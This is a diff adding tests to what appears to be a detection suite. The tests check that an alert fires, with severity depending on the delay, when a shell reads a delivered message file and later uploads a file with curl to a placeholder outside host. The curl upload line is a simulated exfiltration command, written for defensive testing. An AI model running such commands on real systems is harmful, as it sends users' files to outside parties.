@@ -302,3 +302,22 @@ for (const { says, severity, factors = [], never = [], settings = {}, telemetry,
     for (const factor of never) assert.ok(!factorsOf(alert).includes(factor), factor);
   });
 }
+
+for (const [wait, severity] of [
+  [5, 'low'],
+  [15, null],
+] as const)
+  test(`where nothing but the session joins them, an upload ${wait} minutes after the read: ${severity ?? 'nothing'}`, async () => {
+    const log = new HostLog({ files: false, network: false });
+    const message = log.deliver();
+    log.wait(MINUTE);
+    const shell = log.shell('clerk');
+    shell.run(`/bin/grep -c x ${message.path}`);
+    log.wait(wait * MINUTE);
+    shell.run(`/usr/bin/curl -T report.pdf http://${OUT}/x`);
+    const [alert] = (await scanLog(log)).filter(
+      each => each.analytic === 'AN1310' && each.severity !== 'informational',
+    );
+    assert.equal(alert?.severity ?? null, severity);
+    if (alert !== undefined) assert.ok(alert.factors.some(factor => factor.tunable?.name === 'TimeWindow'));
+  });
